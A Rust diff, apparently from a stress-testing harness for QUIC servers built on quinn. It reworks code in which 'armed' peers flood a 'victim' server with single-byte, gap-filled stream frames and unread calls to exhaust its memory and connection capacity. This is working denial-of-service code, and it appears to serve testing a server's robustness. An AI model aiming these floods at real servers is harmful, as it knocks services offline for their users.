@@ -17,9 +17,11 @@ use super::{
     weapon::{ROOM, Weapon, stream_byte},
 };
 
-/// So many for each of seven streams fit a window of 12 KiB; quinn gives a connection up that has more than
-/// 1,024 in one stream.
-const PIECES: u64 = 850;
+/// With so many for each of seven streams, gaps fit a window of 10 KiB.
+pub(crate) const GAPS: u64 = 700;
+/// So many in one stream quinn takes, and closes a connection with more than 1,024.
+#[allow(dead_code, reason = "for the tests")]
+pub(crate) const MOST_GAPS: u64 = 1000;
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(crate) enum Filling {
@@ -27,8 +29,9 @@ pub(crate) enum Filling {
     Unfinished,
     /// The same, written byte by byte.
     Trickled,
-    /// Every other byte, so that nothing can be read and every byte is a piece of its own.
-    Gaps,
+    /// Every other byte, this often in a stream, so that nothing can be read and every byte is a piece of its
+    /// own.
+    Gaps(u64),
     /// Calls with the largest parameters, whose answers nobody reads.
     Unread,
     /// Calls whose answers nobody reads on half of the streams, and frames that lack their last byte on the
@@ -61,16 +64,23 @@ pub(crate) async fn fill(stage: &Stage, victim: &Victim, filling: Filling, scale
     // One place is the honest peer's.
     let probe = Probe::connect(stage, victim).await?;
     let (mut peers, mut tasks, mut streams) = (Vec::new(), Vec::new(), 0);
-    for n in 1..=scale.peers {
-        if filling == Filling::Gaps {
-            let (peer, weapon) = Peer::armed(stage, victim, n).await?;
-            let (bidi, uni) = open(&peer);
-            streams += bidi.len() + uni.len();
-            load(&weapon, bidi.iter().map(|(send, _)| send).chain(&uni));
-            tasks.push(smol::spawn(carry(uni, weapon)));
-            peers.push(peer);
-            continue;
-        }
+    let (all, each, gaps) = match filling {
+        Filling::Gaps(gaps) => (scale.peers, 0, gaps),
+        _ => (0, scale.peers, 0),
+    };
+    // All of them are in before the first is thrown out: while it is not forgotten, others may be refused.
+    let mut armed = Vec::new();
+    for n in 1..=all {
+        armed.push(Peer::armed(stage, victim, n).await?);
+    }
+    for (peer, weapon) in armed {
+        let (bidi, uni) = open(&peer);
+        streams += bidi.len() + uni.len();
+        load(&weapon, bidi.iter().map(|(send, _)| send).chain(&uni), gaps);
+        tasks.push(smol::spawn(carry(uni, weapon)));
+        peers.push(peer);
+    }
+    for n in 1..=each {
         let mut transport = TransportConfig::default();
         if matches!(filling, Filling::Unread | Filling::Both) {
             transport.receive_window(VarInt::from_u32(1)).stream_receive_window(VarInt::from_u32(1));
@@ -150,10 +160,10 @@ async fn pour(send: &mut SendStream, said: Bytes, filling: Filling) {
 }
 
 /// Every other byte of each stream, in pieces of one byte, from the second on.
-fn load<'a>(weapon: &Weapon, streams: impl Iterator<Item = &'a SendStream>) {
+fn load<'a>(weapon: &Weapon, streams: impl Iterator<Item = &'a SendStream>, pieces: u64) {
     let mut packet = Vec::new();
     for stream in streams {
-        for piece in 0..PIECES {
+        for piece in 0..pieces {
             let frame = stream_byte(VarInt::from(stream.id()).into_inner(), 1 + 2 * piece, 7);
             if packet.len() + frame.len() > ROOM {
                 weapon.load(std::mem::take(&mut packet));
